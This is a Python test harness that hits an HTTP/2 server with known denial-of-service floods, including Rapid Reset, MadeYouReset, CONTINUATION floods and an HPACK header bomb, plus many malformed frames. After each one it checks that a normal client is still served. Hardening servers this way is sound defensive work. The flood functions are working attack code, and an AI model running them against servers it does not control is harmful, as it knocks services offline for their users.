"""Breaks HTTP/2 in the ways that are known, frame by frame, and says where a program at work does not stand it; silent where it does.

usage: hostile_http2.py ADDRESS AUTHORITY.pem

A neighbour who keeps to the rules (PyPI's h2) has a connection all the time, and is answered after each attack.
"""

import socket
import ssl
import sys
import urllib.parse

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe import frame as frames

PATIENCE = 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
faults = []
place = urllib.parse.urlparse(sys.argv[1]) if len(sys.argv) == 3 else sys.exit(__doc__)
secure = ssl.create_default_context(cafile=sys.argv[2])
secure.set_alpn_protocols(["h2"])


def fields(method="GET", path="/healthz", more=()):
    return [(":method", method), (":scheme", "https"), (":authority", place.netloc), (":path", path), *more]


def connected():
    plain = socket.socket()
    plain.settimeout(PATIENCE)
    # Little room for answers that nobody reads.
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    plain.connect((place.hostname, place.port))
    return secure.wrap_socket(plain, server_hostname=place.hostname)


class Neighbour:
    """Keeps to the rules."""

    def __init__(self):
        self.socket = connected()
        self.talk = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self.talk.initiate_connection()
        self.socket.sendall(self.talk.data_to_send())

    def status(self):
        stream = self.talk.get_next_available_stream_id()
        self.talk.send_headers(stream, fields(), end_stream=True)
        self.socket.sendall(self.talk.data_to_send())
        status = None
        while piece := self.socket.recv(65_536):
            for event in self.talk.receive_data(piece):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers)[":status"]
                if isinstance(event, h2.events.DataReceived):
                    self.talk.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                    self.socket.sendall(self.talk.data_to_send())
                    return status
            self.socket.sendall(self.talk.data_to_send())
        return "closed"


class Attack:
    """A connection on which anything may be sent."""

    def __init__(self):
        self.socket = connected()
        self.packer = hpack.Encoder()
        self.unpacker = hpack.Decoder()
        self.heard = b""
        self.isOpen = True
        self.send_bytes(PREFACE + frames.SettingsFrame(0).serialize())

    def send_bytes(self, data):
        if not self.isOpen:
            return
        try:
            self.socket.sendall(data)
        except TimeoutError:
            # It reads nothing more: it holds us up, which is its right.
            self.isOpen = False
        except OSError:
            self.isOpen = False

    def send(self, *all):
        self.send_bytes(b"".join(one.serialize() for one in all))

    def head(self, stream, *flags, method="GET", path="/healthz", more=()):
        return frames.HeadersFrame(stream, data=self.packer.encode(fields(method, path, more)), flags=list(flags))

    def outcome(self, patience=3):
        """`ended`, `refused` (a stream was reset, or answered 4xx), `answered`, or `silent` where nothing comes for a while."""
        self.socket.settimeout(patience)
        found = "silent"
        try:
            while piece := self.socket.recv(65_536):
                self.heard += piece
                for kind, flags, payload in self.taken():
                    if kind == frames.GoAwayFrame.type:
                        return "ended"
                    if kind == frames.RstStreamFrame.type:
                        found = "refused"
                    if kind == frames.HeadersFrame.type and found != "refused":
                        status = dict(self.unpacker.decode(payload)).get(":status", "0")
                        found = "refused" if status.startswith("4") else "answered"
                if found == "refused":
                    return found
            return "ended"
        except TimeoutError:
            return found
        except OSError:
            return "ended"

    def taken(self):
        """Whole frames of what came."""
        while len(self.heard) >= 9:
            length = int.from_bytes(self.heard[:3], "big")
            if len(self.heard) < 9 + length:
                return
            kind, flags, payload = self.heard[3], self.heard[4], self.heard[9:9 + length]
            self.heard = self.heard[9 + length:]
            yield kind, flags, payload


def raw(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


END = ("END_HEADERS", "END_STREAM")


def rapid_reset(attack):
    """CVE-2023-44487."""
    for batch in range(200):
        attack.send(*(one for number in range(100) for one in (
            attack.head(1 + 2 * (batch * 100 + number), *END, path="/openapi.json"),
            frames.RstStreamFrame(1 + 2 * (batch * 100 + number), error_code=8))))
        if not attack.isOpen:
            return


def made_you_reset(attack):
    """CVE-2025-8671: the server is made to reset, by what breaks a rule on each stream."""
    for batch in range(100):
        attack.send_bytes(b"".join(
            attack.head(1 + 2 * (batch * 100 + number), *END, path="/openapi.json").serialize()
            + raw(8, 0, 1 + 2 * (batch * 100 + number), bytes(4)) for number in range(100)))
        if not attack.isOpen:
            return


def continuations(attack):
    """A head that never ends."""
    attack.send(attack.head(1))
    for _ in range(500):
        attack.send(frames.ContinuationFrame(1, data=hpack.Encoder().encode([(f"x-{'a' * 100}", "b" * 8_000)], huffman=False)))


def empty_continuations(attack):
    attack.send(attack.head(1))
    attack.send_bytes(raw(9, 0, 1) * 200_000)


def header_bomb(attack):
    """One long field in the table, named again and again by a byte each."""
    attack.packer.encode([("x-bomb", "b" * 3_000)])
    block = attack.packer.encode(fields()) + hpack.Encoder().encode([("x-bomb", "b" * 3_000)], huffman=False) + b"\xbe" * 12_000
    attack.send(frames.HeadersFrame(1, data=block, flags=list(END)))


def many_streams(attack):
    """More at once than were allowed, none of them ever ended."""
    for batch in range(50):
        attack.send(*(attack.head(1 + 2 * (batch * 100 + number), "END_HEADERS", method="POST", path="/preferences",
                                  more=[("content-type", "application/x-www-form-urlencoded")]) for number in range(100)))


def settings(attack):
    attack.send_bytes(frames.SettingsFrame(0, settings={4: 65_535}).serialize() * 400_000)


def pings(attack):
    attack.send_bytes(frames.PingFrame(0, opaque_data=b"12345678").serialize() * 400_000)


def empty_data(attack):
    attack.send(attack.head(1, "END_HEADERS", method="POST", path="/preferences",
                            more=[("content-type", "application/x-www-form-urlencoded")]))
    attack.send_bytes(raw(0, 0, 1) * 200_000)


def priorities(attack):
    attack.send_bytes(frames.PriorityFrame(1, depends_on=0, stream_weight=7).serialize() * 200_000)


def unread(attack):
    """Answers that nobody makes room for."""
    attack.send(frames.SettingsFrame(0, settings={4: 0}))
    attack.send(*(attack.head(1 + 2 * number, *END, path="/openapi.json") for number in range(100)))


# What is done, and how it may come out: a flood may be held up or answered as long as it costs little (the test that starts this looks at memory).
FLOODS = [
    (rapid_reset, {"ended"}), (made_you_reset, {"ended"}), (continuations, {"ended"}), (empty_continuations, {"ended"}),
    (header_bomb, {"ended", "refused", "answered"}), (many_streams, {"ended", "refused", "answered"}), (settings, {"ended", "silent"}), (pings, {"ended", "silent"}),
    (empty_data, {"ended", "refused"}), (priorities, {"ended", "silent"}), (unread, {"ended", "silent", "refused", "answered"}),
]


def violations():
    """Frames that break a rule of RFC 9113, each on a connection of its own, as h2spec has them."""
    pack = lambda more=(), **what: hpack.Encoder().encode(fields(more=more, **what))
    missing = lambda name: hpack.Encoder().encode([one for one in fields() if one[0] != name])
    head = lambda block, stream=1, flags=5: raw(1, flags, stream, block)
    body = [("content-type", "application/x-www-form-urlencoded")]
    return [
        ("data on stream 0", raw(0, 0, 0, b"a")), ("a head on stream 0", head(pack(), 0)), ("a head on an even stream", head(pack(), 2)),
        ("settings on a stream", raw(4, 0, 1)), ("settings of half a setting", raw(4, 0, 0, bytes(5))),
        ("an acknowledgement with a payload", raw(4, 1, 0, bytes(6))), ("a window beyond 2³¹", raw(4, 0, 0, bytes([0, 4]) + b"\x80\0\0\0")),
        ("frames too short to be allowed", raw(4, 0, 0, bytes([0, 5]) + bytes(4))), ("push that is neither on nor off", raw(4, 0, 0, bytes([0, 2, 0, 0, 0, 7]))),
        ("a ping on a stream", raw(6, 0, 1, bytes(8))), ("a ping of seven bytes", raw(6, 0, 0, bytes(7))),
        ("a reset of what never was", raw(3, 0, 1, bytes(4))), ("a reset of three bytes", head(pack(), flags=4) + raw(3, 0, 1, bytes(3))),
        ("a window update of nothing", raw(8, 0, 0, bytes(4))), ("windows that overflow", raw(8, 0, 0, b"\x7f\xff\xff\xff") * 2),
        ("a frame that is too long", raw(0, 0, 1, bytes(20_000))), ("a promise", raw(5, 4, 1, bytes(4) + pack())),
        ("a continuation of nothing", raw(9, 4, 1, pack())), ("another frame within a head", head(pack(), flags=1) + raw(6, 0, 0, bytes(8))),
        ("a head of another stream within a head", head(pack(), flags=1) + raw(9, 4, 3, pack())), ("more padding than frame", raw(1, 0x0D, 1, b"\xff")),
        ("an index of no table", head(b"\xff\xff\xff\x0f")), ("a broken Huffman code", head(b"\x40\x81\xff\x81\xff")),
        ("a table beyond what was allowed", head(b"\x3f\xe1\xff\xff\x07" + pack())), ("a stream that comes again", head(pack()) + head(pack())),
        ("a stream older than the last", head(pack(), 5) + head(pack(), 3)), ("a name in capitals", head(pack(more=[("X-Capital", "a")]))),
        ("a field of the connection", head(pack(more=[("connection", "close")]))), ("an encoding", head(pack(more=[("transfer-encoding", "chunked")]))),
        ("TE but trailers", head(pack(more=[("te", "gzip")]))), ("a pseudo field after a field", head(pack(more=[("a", "b"), (":path", "/")]))),
        ("a pseudo field that is none", head(hpack.Encoder().encode([*fields(), (":other", "a")]))),
        ("the status of an answer", head(hpack.Encoder().encode([*fields(), (":status", "200")]))),
        ("two methods", head(hpack.Encoder().encode([(":method", "GET"), *fields()]))), ("no method", head(missing(":method"))),
        ("no path", head(missing(":path"))), ("no scheme", head(missing(":scheme"))), ("an empty path", head(pack(path=""))),
        ("a line's end in a value", head(pack(more=[("x-a", "b\r\nx-c: d")]))), ("a byte 0 in a value", head(pack(more=[("x-a", "b\0")]))),
        ("a name that is no ASCII", head(pack(more=[("x-é", "a")]))), ("a name of bytes that are no text", head(pack(more=[(b"x-\xff\x80", b"a")]))),
        ("a name with a space", head(pack(more=[("x a", "b")]))), ("a name with a colon", head(pack(more=[("x:a", "b")]))),
        ("no name", head(pack(more=[("", "b")]))), ("a name with a byte 0", head(pack(more=[("x\0", "b")]))),
        ("a path that is no ASCII", head(pack(path="/é"))), ("a method that is none", head(pack(method="G T"))),
        ("a host that is none", head(hpack.Encoder().encode([*[one for one in fields() if one[0] != ":authority"], (":authority", "é")]))),
        ("two hosts", head(pack(more=[("host", "one"), ("host", "other")]))),
        ("less body than was said", head(pack([*body, ("content-length", "9")], method="POST", path="/preferences"), flags=4) + raw(0, 1, 1, b"a=b")),
        ("more body than was said", head(pack([*body, ("content-length", "1")], method="POST", path="/preferences"), flags=4) + raw(0, 1, 1, b"a=b")),
        ("two lengths", head(pack([*body, ("content-length", "3"), ("content-length", "4")], method="POST", path="/preferences"), flags=4) + raw(0, 1, 1, b"a=b")),
        ("data after the end", head(pack()) + raw(0, 1, 1, b"a") * 2), ("goodbye on a stream", raw(7, 0, 1, bytes(8))),
    ]


def main():
    neighbour = Neighbour()

    def still_answered(what):
        try:
            for one in (neighbour, Neighbour()):
                if (status := one.status()) != "200":
                    faults.append(f"{what}: a neighbour is answered {status}")
        except OSError as error:
            faults.append(f"{what}: a neighbour is not answered: {error}")

    still_answered("to begin with")
    for flood, allowed in FLOODS:
        attack = Attack()
        flood(attack)
        outcome = attack.outcome(10) if attack.isOpen else "ended"
        if outcome not in allowed:
            faults.append(f"{flood.__name__}: {outcome} instead of {' or '.join(sorted(allowed))}")
        still_answered(flood.__name__)
        attack.socket.close()
    for what, data in violations():
        attack = Attack()
        attack.send_bytes(data)
        outcome = attack.outcome()
        if outcome not in ("ended", "refused"):
            faults.append(f"{what}: {outcome}")
        attack.socket.close()
    still_answered("violations")
    honest = Attack()
    honest.send_bytes(raw(1, 5, 1, hpack.Encoder().encode(fields())))
    if (outcome := honest.outcome()) != "answered":
        faults.append(f"what breaks no rule: {outcome}")
    honest.socket.close()
    print("\n".join(faults), end="\n" if faults else "")
    sys.exit(1 if faults else 0)


main()
